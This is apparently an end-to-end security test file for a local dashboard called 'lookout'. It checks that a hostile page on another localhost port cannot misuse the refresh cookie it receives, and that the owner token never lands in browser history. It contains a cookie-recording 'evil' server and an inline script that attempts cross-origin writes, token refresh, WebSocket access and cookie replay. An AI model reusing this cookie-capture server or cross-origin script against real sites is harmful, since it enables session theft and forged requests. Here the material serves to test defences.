import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { spawnLookout } from '../helpers/cli.ts';
import { api, startRuntime } from '../helpers/runtime.ts';
import { tempWorkspace } from '../helpers/workspace.ts';
import { CHROMIUM_PATH, ensureRendererBuilt, launchChromium, openDashboard } from './chromium.ts';

/**
 * The browser credentials against a real Chromium: another localhost port (same *site*,
 * another *origin*) receives the refresh cookie but can do nothing with it, and the
 * owner token never reaches the browser's history.
 */

let browser: Browser;
const closers: (() => Promise<unknown>)[] = [];

beforeAll(async () => {
  await ensureRendererBuilt();
  browser = await launchChromium();
}, 180_000);
afterEach(async () => {
  await Promise.all(closers.splice(0).map((close) => close()));
});
afterAll(async () => {
  await browser?.close();
});

/** A hostile page on another localhost port that also records every Cookie header it is sent. */
async function evilServer(html: string): Promise<{ url: string; cookies: string[] }> {
  const cookies: string[] = [];
  const server = http.createServer((req, res) => {
    if (req.headers.cookie) cookies.push(req.headers.cookie);
    res.writeHead(200, { 'content-type': req.url === '/' ? 'text/html' : 'text/plain' });
    res.end(req.url === '/' ? html : 'ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  closers.push(() => new Promise((resolve) => server.close(resolve)));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, cookies };
}

describe('browser credentials', { timeout: 60_000 }, () => {
  it('a page on another localhost port gets the cookie but cannot write, refresh, stream or read with it', async () => {
    const runtime = await startRuntime();
    const { context, page } = await openDashboard(browser, runtime);
    closers.push(() => context.close());
    const binding = (await page.evaluate('localStorage.getItem("lookout.refresh_binding")')) as string;
    expect(binding).toMatch(/^[\w-]{40,}$/);

    const target = runtime.url;
    const evil = await evilServer(`<!doctype html><script>
      window.results = {};
      const t = ${JSON.stringify(target)};
      const attempt = async (name, fn) => { try { results[name] = await fn(); } catch (e) { results[name] = 'error: ' + e.message; } };
      window.done = (async () => {
        // Cookies ignore ports: a request to this server under /api/v1/auth carries the refresh cookie.
        await attempt('ownPath', () => fetch('/api/v1/auth/steal', { credentials: 'include' }).then((r) => r.status));
        // Writes with whatever credentials the browser attaches: no body, and a text body.
        await attempt('handover', () => fetch(t + '/api/v1/session/handover', { method: 'POST', mode: 'no-cors', credentials: 'include' }).then((r) => r.type));
        await attempt('publish', () => fetch(t + '/api/v1/events', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ type: 'x.pwned', data: {} }) }).then((r) => r.type));
        // The refresh, with the cookie and without the binding (it is not readable from here).
        await attempt('refresh', () => fetch(t + '/api/v1/auth/refresh', { method: 'POST', mode: 'no-cors', credentials: 'include' }).then((r) => r.type));
        await attempt('readable', () => fetch(t + '/api/v1/session', { credentials: 'include' }).then((r) => r.status));
        await attempt('ws', () => new Promise((resolve) => {
          const ws = new WebSocket(t.replace('http', 'ws') + '/ws');
          ws.onopen = () => resolve('open');
          ws.onerror = () => resolve('refused');
        }));
        await attempt('binding', () => localStorage.getItem('lookout.refresh_binding'));
      })();
    </script>`);
    const attacker = await context.newPage();
    await attacker.goto(`${evil.url}/`);
    await attacker.evaluate('window.done');
    const results = (await attacker.evaluate('window.results')) as Record<string, unknown>;
    expect(results.ws).toBe('refused');
    expect(results.binding).toBeNull();
    expect(String(results.readable)).toMatch(/^error/); // CORS: nothing to read
    expect(results.ownPath).toBe(200);

    // The other port did receive the cookie (browsers do not isolate cookies by port)...
    const stolen = evil.cookies.find((c) => c.includes(`lookout_refresh_${runtime.port}=`));
    expect(stolen).toBeDefined();
    // ...and it is worth nothing without the binding, which stayed in the dashboard's origin.
    const replay = await fetch(`${runtime.url}/api/v1/auth/refresh`, { method: 'POST', headers: { cookie: stolen! } });
    expect(replay.status).toBe(401);

    // Nothing was written: the lock was not handed over, no event was published.
    const session = (await (await api(runtime, '/api/v1/session')).json()) as { read_only: boolean };
    expect(session.read_only).toBe(false);
    const pwned = (await (await api(runtime, '/api/v1/events?types=x.*')).json()) as { events: unknown[] };
    expect(pwned.events).toEqual([]);
    // The refresh attempt rotated nothing: the dashboard's own sign-in still refreshes.
    await page.reload();
    await page
      .getByTestId('connection-state')
      .filter({ hasText: /^Live$/ })
      .waitFor({ timeout: 10_000 });
    expect(
      (await (await api(runtime, '/api/v1/events?types=auth.refresh_reuse_detected')).json()) as { events: unknown[] },
    ).toEqual(expect.objectContaining({ events: [] }));
  });

  it('after `lookout open` the token is in no URL the browser stored, and the code is gone from the address bar', async () => {
    const runtime = await startRuntime();
    // `lookout open` with a stand-in opener that hands the URL to the test's Chromium.
    const bin = tempWorkspace();
    const handedOver = path.join(bin, 'url');
    fs.writeFileSync(path.join(bin, 'xdg-open'), `#!/bin/sh\nprintf '%s' "$1" > '${handedOver}'\n`, { mode: 0o755 });
    const opened = spawnLookout(['open', '--workspace', runtime.config.workspace], {
      env: { PATH: `${bin}:/usr/bin:/bin` },
    });
    expect(await opened.exited).toBe(0);
    const url = fs.readFileSync(handedOver, 'utf8');
    expect(url).toMatch(/\/\?code=/);

    const profile = tempWorkspace();
    const context = await chromium.launchPersistentContext(profile, {
      executablePath: CHROMIUM_PATH,
      args: ['--no-sandbox', '--disable-gpu', '--no-first-run'],
    });
    try {
      const page = await context.newPage();
      await page.goto(url);
      await page
        .getByTestId('connection-state')
        .filter({ hasText: /^Live$/ })
        .waitFor({ timeout: 10_000 });
      expect(page.url()).toBe(`${runtime.url}/`);
      // A second visit so the history has more than one entry to look through.
      await page.reload();
      await page
        .getByTestId('connection-state')
        .filter({ hasText: /^Live$/ })
        .waitFor({ timeout: 10_000 });
    } finally {
      await context.close();
    }
    const history = path.join(profile, 'Default', 'History');
    expect(fs.existsSync(history)).toBe(true);
    for (const file of fs.readdirSync(path.join(profile, 'Default'))) {
      const full = path.join(profile, 'Default', file);
      if (!fs.statSync(full).isFile()) continue;
      expect(fs.readFileSync(full).includes(runtime.token), file).toBe(false);
    }
    // The one-time code may be in the history, but it is spent.
    const code = new URL(url).searchParams.get('code')!;
    const reuse = await fetch(`${runtime.url}/api/v1/auth/sign-in`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ code }),
    });
    expect(reuse.status).toBe(401);
  });
});
